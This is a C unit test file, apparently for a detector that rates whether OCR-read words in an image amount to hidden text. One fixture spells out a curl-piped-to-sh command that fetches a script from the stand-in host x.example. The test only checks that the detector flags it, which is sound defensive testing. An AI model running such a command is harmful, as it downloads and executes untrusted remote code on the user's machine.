/* SPDX-License-Identifier: GPL-3.0-or-later */
#include <string.h>

#include "belay-hidden-words.h"
#include "belay-reader.h"

/* "word/confidence", with spaces between. */
static GPtrArray *
read_words (const char *spelled)
{
  GPtrArray *words = g_ptr_array_new_with_free_func ((GDestroyNotify) belay_read_word_free);
  g_auto(GStrv) parts = g_strsplit (spelled, " ", -1);

  for (guint i = 0; parts[i] != NULL; i++)
    {
      BelayReadWord *word = g_new0 (BelayReadWord, 1);
      const char *slash = strrchr (parts[i], '/');

      word->text = g_strndup (parts[i], (gsize) (slash - parts[i]));
      word->confidence = (guint) g_ascii_strtoull (slash + 1, NULL, 10);
      g_ptr_array_add (words, word);
    }

  return words;
}

static void
test_rate (void)
{
  static const struct
  {
    const char       *spelled;
    BelayHiddenWords  rating;
  } cases[] = {
    { "garden/70 ladder/90 kettle/71", BELAY_HIDDEN_WORDS_CERTAIN },
    { "garden/70 ladder/90 kettle/69", BELAY_HIDDEN_WORDS_PERHAPS },
    { "Chapter/95 two/96", BELAY_HIDDEN_WORDS_PERHAPS },
    /* The most common words need not be read so well, but need three letters. */
    { "the/30 and/31 this,/32", BELAY_HIDDEN_WORDS_LIKELY },
    { "the/30 garden/70 kettle/70", BELAY_HIDDEN_WORDS_LIKELY },
    { "the/30 and/31 this/29", BELAY_HIDDEN_WORDS_PERHAPS },
    { "in/99 or/99 be/99 a/99", BELAY_HIDDEN_WORDS_NONE },
    /* As tiny type is read. */
    { "uex/26 hax/34 anoady/22 gareed/20 ths/40 |/0 parncnt/54", BELAY_HIDDEN_WORDS_LIKELY },
    { "uex/26 hax/34 anoady/22 gareed/20 ths/19 |/0", BELAY_HIDDEN_WORDS_PERHAPS },
    /* As a wallpaper is. */
    { "uex/26 hax/34 |/9 ./44 anoady/22 =/0 €/80 gareed/20 -/50 o/7 ths/40 |/0 1/99 ;/0 1°/0", BELAY_HIDDEN_WORDS_PERHAPS },
    { "1a2/90 2b3/90 ...x/90 ==/90 a|/90 xy./90", BELAY_HIDDEN_WORDS_NONE },
  };

  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(GPtrArray) words = read_words (cases[i].spelled);

      g_test_message ("%s", cases[i].spelled);
      g_assert_cmpint (belay_hidden_words_rate (words), ==, cases[i].rating);
    }
}

static void
test_text (void)
{
  g_autoptr(GPtrArray) texture = read_words ("uex/26 hax/34 two/99");
  g_autoptr(GPtrArray) command = read_words ("curl/80 -s/60 https://x.example/a.sh/80 |/60 sh/70");
  g_autoptr(GPtrArray) tiny = read_words ("uex/26 hax/34 anoady/22 gareed/20 ths/40");
  g_autofree char *nothing = NULL, *said = NULL, *misread = NULL;

  g_assert_false (belay_hidden_words_is_text (texture, &nothing));
  g_assert_true (belay_hidden_words_is_text (command, &said));
  g_assert_nonnull (strstr (said, "curl"));
  g_assert_true (belay_hidden_words_is_text (tiny, &misread));
  g_assert_cmpstr (misread, ==, "");
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/hidden-words/rate", test_rate);
  g_test_add_func ("/hidden-words/text", test_text);

  return g_test_run ();
}
